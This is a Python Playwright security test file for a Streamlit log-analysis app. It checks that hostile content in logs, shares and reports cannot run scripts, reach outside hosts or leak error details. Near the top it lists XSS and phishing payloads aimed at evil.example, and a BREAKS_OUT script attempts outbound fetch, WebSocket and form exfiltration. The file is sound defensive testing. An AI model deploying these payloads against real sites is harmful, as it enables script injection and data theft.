"""What a hostile log, a hostile page and a hostile visitor try in a real browser, and what comes of it."""

import csv
import io
import shutil
from collections.abc import Sequence
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, expect

from tests.browser.conftest import saved
from tests.browser.sharing import PASSWORD, enter, publish
from tests.browser.visiting import bring, go, hostile, popovers, titles
from tests.paths import ROOT
from tests.patience import fresh
from tests.serving import served

pytestmark = pytest.mark.browser
EVIL = "https://evil.example"
PAYLOADS = (
    f"<script>top.hit=1;fetch('{EVIL}/1')</script>",
    f"<img src=x onerror=\"top.hit=1;this.src='{EVIL}/2'\">",
    f"![beacon]({EVIL}/3.png)",
    "[click](javascript:top.hit=1)",
    f"[sign in again]({EVIL}/5)",
    '<iframe srcdoc="<script>top.hit=1</script>"></iframe>',
    f"<svg onload=top.hit=1><image href={EVIL}/7></svg>",
    f'<a href="{EVIL}/8">Sign in again</a>',
    f'"><script src={EVIL}/9.js></script>',
    f"<link rel=stylesheet href={EVIL}/10.css><style>@import url({EVIL}/10b.css)</style>",
    f"$\\href{{{EVIL}/11}}{{x}}$ <{EVIL}/11>",
    f"<form action={EVIL}/12><button>Go</button></form><meta http-equiv=refresh content=0;url={EVIL}/12>",
)
STREAMLITS_OWN = "sha256-THxz9J9+wf7rhwR2YkXJoSZ13UCmYyC+3lNDv2+8ugA="
"""The one inline script of Streamlit's page, `window.prerenderReady = false`: blocked, and nothing needs it."""


class Watch:
    """Everything that a page tried and should not have."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.tried: list[str] = []
        page.on("request", lambda request: self._ask(request.url))
        page.on("console", self._hear)
        page.on("dialog", lambda dialog: self.tried.append(f"dialog {dialog.message}"))

    def found(self) -> list[str]:
        """Scripts that ran, requests to others or blocked ones, and links to elsewhere or to a script."""
        links = self.page.eval_on_selector_all(
            "a, area, form, image",
            "all => all.flatMap(e => ['href', 'xlink:href', 'action'].map(n => e.getAttribute(n)).filter(Boolean))",
        )
        bad = [
            link for link in links if "evil.example" in link or link.strip().lower().startswith("javascript:")
        ]
        hit = ["a script ran"] if self.page.evaluate("window.hit") else []
        return [*self.tried, *bad, *hit]

    def _ask(self, url: str) -> None:
        if "evil.example" in urlsplit(url).netloc:
            self.tried.append(url)

    def _hear(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text and STREAMLITS_OWN not in message.text:
            self.tried.append(message.text)


def tried_alone(page: Page, button: str, to: Path) -> list[str]:
    """What a page tries that a button saves, opened from the folder `to` without the app."""
    file = saved(page, button, to)
    alone = page.context.new_page()
    watch = Watch(alone)
    alone.goto(file.as_uri())
    alone.wait_for_timeout(1_000)
    return watch.found()


def tried_in(page: Page, titles: Sequence[str]) -> dict[str, list[str]]:
    """What a hostile log tries on each of these pages."""
    watch = Watch(page)
    bring(page, f"{PAYLOADS[3]} www.evil.example {PAYLOADS[1]}.csv".replace("/", "-"), hostile(PAYLOADS))
    found = {}
    for title in titles:
        go(page, title)
        found[title] = [*watch.found(), *(each for _ in popovers(page) for each in watch.found())]
        watch.tried.clear()
    return found


def test_nothing_in_a_log_runs_fetches_or_links(page: Page) -> None:
    assert tried_in(page, ["Log"]) == {"Log": []}


def test_nothing_in_a_question_about_a_log_runs_fetches_or_links(page: Page) -> None:
    watch = Watch(page)
    out = io.StringIO()
    csv.writer(out).writerows(
        [
            [f"{PAYLOADS[2]} {PAYLOADS[3]} date", f"{PAYLOADS[4]} {PAYLOADS[7]} date", "channel"],
            *([f"2026-03-{day:02}", f"2026-04-{day:02}", "email"] for day in range(1, 20)),
        ]
    )
    bring(page, "log.csv", out.getvalue().encode())
    expect(page.get_by_text("which column is the day?")).to_be_visible()
    page.wait_for_timeout(700)
    assert watch.found() == []


@pytest.mark.long
def test_nothing_in_a_log_runs_fetches_or_links_on_any_page(page: Page) -> None:
    every = titles(page)
    assert len(every) >= 8
    assert tried_in(page, every) == {title: [] for title in every}


@pytest.mark.long
def test_nothing_in_a_share_runs_fetches_or_links(page: Page, viewers: BrowserContext) -> None:
    bring(page, "log.csv", hostile(PAYLOADS))
    link = publish(page, "Full", PASSWORD)
    viewer = viewers.new_page()
    watch = Watch(viewer)
    viewer.goto(link)
    enter(viewer)
    expect(viewer.get_by_test_id("stTopNavLink").first).to_be_visible()
    found = {}
    for title in titles(viewer):
        go(viewer, title)
        found[title] = [*watch.found(), *(each for _ in popovers(viewer) for each in watch.found())]
        watch.tried.clear()
    assert len(found) >= 3
    assert found == {title: [] for title in found}


def test_nothing_in_a_report_runs_fetches_or_links(page: Page, tmp_path: Path) -> None:
    bring(page, "log.csv", hostile(PAYLOADS))
    page.get_by_role("button", name="A report").click()
    assert tried_alone(page, "Download the report", tmp_path) == []


BREAKS_OUT = """() => {
    const blocked = [];
    document.addEventListener("securitypolicyviolation", event => blocked.push(event.effectiveDirective));
    const put = (name, told) => document.body.append(Object.assign(document.createElement(name), told));
    put("script", {textContent: "window.hit = 1"});
    put("script", {src: "https://evil.example/a.js"});
    put("script", {src: "data:text/javascript,window.hit=1"});
    put("img", {src: "https://evil.example/beacon.png"});
    put("iframe", {srcdoc: "<script>parent.hit = 1</script>"});
    put("iframe", {src: "https://evil.example/"});
    put("object", {data: "https://evil.example/"});
    put("link", {rel: "stylesheet", href: "https://evil.example/a.css"});
    put("form", {action: "https://evil.example/", method: "post"});
    [...document.forms].at(-1).submit();
    fetch("https://evil.example/").catch(() => {});
    new WebSocket("wss://evil.example/");
    setTimeout(() => new Function("window.hit = 1")());
    return new Promise(done => setTimeout(() => done({blocked: blocked.sort(), hit: window.hit || null}), 500));
}"""


def test_what_breaks_out_of_a_page_all_the_same_can_neither_run_nor_tell(page: Page) -> None:
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    found = page.evaluate(BREAKS_OUT)
    assert found["hit"] is None
    assert found["blocked"] == [
        "connect-src",
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "object-src",
        "script-src",
        "script-src-elem",
        "script-src-elem",
        "script-src-elem",
        "style-src-elem",
    ]
    assert [url for url in asked if "evil.example" in url] == []


FAILS = """
import streamlit as st
st.title("Ready")
raise ValueError("the log of Ada Canary in /home/canary/log.csv")
"""


def test_an_error_tells_a_visitor_neither_path_nor_value(browser: Browser, tmp_path: Path) -> None:
    shutil.copytree(ROOT / ".streamlit", tmp_path / ".streamlit")
    (tmp_path / "app.py").write_text(FAILS)
    with served(tmp_path / "log", folder=tmp_path) as host:
        page = fresh(browser).new_page()
        frames: list[str | bytes] = []
        page.on("websocket", lambda socket: socket.on("framereceived", lambda frame: frames.append(frame)))
        page.goto(host.address)
        expect(page.get_by_role("heading", name="Ready")).to_be_visible()
        expect(page.get_by_text("redacted")).to_be_visible()
        told = page.content().encode() + b"".join(f if isinstance(f, bytes) else f.encode() for f in frames)
        page.context.close()
    assert "Ada Canary" in host.log.read_text()  # whoever runs the app can read it
    assert [word for word in (b"anary", b"ValueError", b'app.py", line') if word in told] == []


@pytest.mark.parametrize(
    ("path", "shown"), [("/", False), ("/share", False), ("/shared", False), ("/shared?id=x", True)]
)
def test_only_a_share_can_be_framed(
    browser: Browser, server: str, elsewhere: str, path: str, shown: bool
) -> None:
    page = fresh(browser).new_page()
    page.goto(f"{elsewhere}/?{quote(server + path)}")
    inside = page.frame_locator("iframe").get_by_test_id("stApp")
    if shown:
        expect(inside).to_be_visible()
    page.wait_for_timeout(1_000)
    assert (inside.count() > 0) is shown
    page.context.close()
